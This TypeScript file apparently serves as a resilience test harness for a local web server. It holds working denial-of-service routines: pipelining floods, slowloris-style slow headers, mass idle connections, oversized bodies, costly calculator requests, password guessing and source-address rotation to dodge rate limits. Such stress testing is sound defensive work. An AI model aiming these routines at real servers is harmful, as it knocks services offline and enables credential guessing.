import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

type Attack = (port: number) => Promise<void>;

interface Sender {
  /** Number of open connections. A closed one is opened again. */
  sockets: number;
  /** The bytes that the next connection sends. */
  text(number: number): string;
  /** Whether it reads the responses. */
  reads?: boolean;
  address?(number: number): string;
}

const RECONNECT_MS = 100;

/** Keeps the connections busy until the process ends. */
const sending =
  ({ sockets, text, reads = false, address = () => '127.0.0.1' }: Sender): Attack =>
  async (port) => {
    let count = 0;
    const one = async (): Promise<void> => {
      for (;;) {
        count += 1;
        const socket = connect({ port, host: '127.0.0.1', localAddress: address(count) });
        const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
        socket.on('error', () => undefined);
        socket.write(text(count));
        if (reads) socket.resume();
        else socket.pause();
        // A client that never reads does not notice the end of the connection. It checks whether it can still write.
        const nudge = setInterval(() => !reads && socket.write('\r\n'), 1_000);
        await Promise.race([closed, sleep(15_000)]);
        clearInterval(nudge);
        socket.destroy();
        await sleep(RECONNECT_MS);
      }
    };
    await Promise.all(Array.from({ length: sockets }, one));
  };

const GET = 'GET / HTTP/1.1\r\nHost: x\r\n\r\n';

/** As many requests as one connection may have in flight, for compressed pages. */
const getCompressed = (path: string) => `GET ${path} HTTP/1.1\r\nHost: x\r\nAccept-Encoding: br\r\n\r\n`.repeat(16);

/** A calculator's largest page, with other numbers each time. */
const schedule = (count: number) =>
  `GET /tools/business-loan?amount=${10_000 + count}&rate=12&months=600 HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAccept-Encoding: br\r\n\r\n`;

const post = (path: string, type: string, body: string) =>
  `POST ${path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`;
const postForm = (body: string) => post('/api/contact', 'application/x-www-form-urlencoded', body);
const postJson = (path: string, body: object) => post(path, 'application/json', JSON.stringify(body));
const person = 'firstName=Bartholomew-M&lastName=Okafor-Haddad&email=bartholomew@example.com';

/** A different address each time. */
const spread = (count: number) =>
  `127.${3 + (count % 40)}.${Math.floor(count / 40) % 250}.${1 + (Math.floor(count / 10_000) % 250)}`;

/** One of 256 addresses. */
const oneOf256 = (count: number) => `127.200.0.${count % 256}`;

const slashes = `GET /a${'/'.repeat(15_800)}x HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`;
const guess = (count: number) => postJson('/api/session', { password: `guess ${count}` });
const message = { firstName: 'A', lastName: 'B', email: 'a@example.com', message: 'x'.repeat(9_000) };

/** Each of these has stopped or delayed a server. */
export const attacks: Record<string, Attack> = {
  pipelining: sending({ sockets: 120, text: () => GET.repeat(2_500) }),
  'pipelining-spread': sending({ sockets: 120, text: () => GET.repeat(2_500), address: spread }),
  'unread-pages': sending({ sockets: 400, text: () => getCompressed('/?sent=contact') }),
  'unread-links': sending({ sockets: 400, text: () => getCompressed('/newsletter/confirm?token=x') }),
  calculators: sending({ sockets: 256, reads: true, text: schedule, address: oneOf256 }),
  'large-forms': sending({
    sockets: 8,
    reads: true,
    text: () => postForm(`${person}&junk=${'%41'.repeat(20_000)}`),
    address: spread,
  }),
  'large-messages': sending({ sockets: 8, reads: true, text: () => postJson('/api/contact', message) }),
  'refused-forms': sending({ sockets: 8, reads: true, text: () => postForm('firstName=A'), address: spread }),
  slashes: sending({ sockets: 200, reads: true, text: () => slashes }),
  guesses: sending({ sockets: 50, reads: true, text: guess, address: spread }),
  'idle-connections': sending({ sockets: 10_000, text: () => '', reads: true }),
  'slow-headers': sending({ sockets: 2_000, text: () => 'GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ', reads: true }),
};
